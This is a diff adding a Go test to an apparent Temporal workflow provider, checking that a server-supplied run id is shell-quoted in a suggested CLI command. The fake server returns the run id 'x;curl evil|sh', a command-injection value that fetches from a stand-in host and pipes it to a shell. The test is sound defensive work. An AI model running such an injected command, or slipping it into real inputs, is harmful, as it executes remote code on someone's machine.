@@ -1,6 +1,8 @@
 package temporal_test
 
 import (
+	"net/http"
+	"net/http/httptest"
 	"sync"
 	"sync/atomic"
 	"testing"
@@ -78,4 +80,26 @@ func TestRequestIDNamesNoOtherRead(t *testing.T) {
 	if s.Count(send) != 1 {
 		t.Errorf("%d signals were sent", s.Count(send))
 	}
+}
+
+// A run id comes from the server, which may be the wrong one. In a command that an error
+// suggests, it is quoted like all other texts.
+func TestRunIDIsQuotedInCommands(t *testing.T) {
+	t.Parallel()
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		w.Header().Set("Content-Type", "application/json")
+		switch {
+		case r.Method == http.MethodPost:
+			_, _ = w.Write([]byte(`{}`))
+		case r.URL.Query().Has("execution.runId"):
+			w.WriteHeader(http.StatusNotFound)
+			_, _ = w.Write([]byte(`{"code":5,"message":"workflow execution not found","details":[]}`))
+		default:
+			_, _ = w.Write([]byte(`{"workflowExecutionInfo":{"execution":{"workflowId":"w","runId":"x;curl evil|sh"},"status":"WORKFLOW_EXECUTION_STATUS_RUNNING","startTime":"2026-01-01T00:00:00Z"}}`))
+		}
+	}))
+	t.Cleanup(server.Close)
+	r := acctest.StartProvider(t, acctest.Values{"temporal": acctest.Values{"address": server.URL}}).Resource("signal_temporal_workflow")
+	says(t, r.Apply(acctest.Values{"workflow_id": "w", "signal_name": "go", "wait_for_completion": true}), true,
+		"Target Cannot Be Read", `"temporal workflow describe --namespace default --workflow-id w --run-id 'x;curl evil|sh'"`)
 }
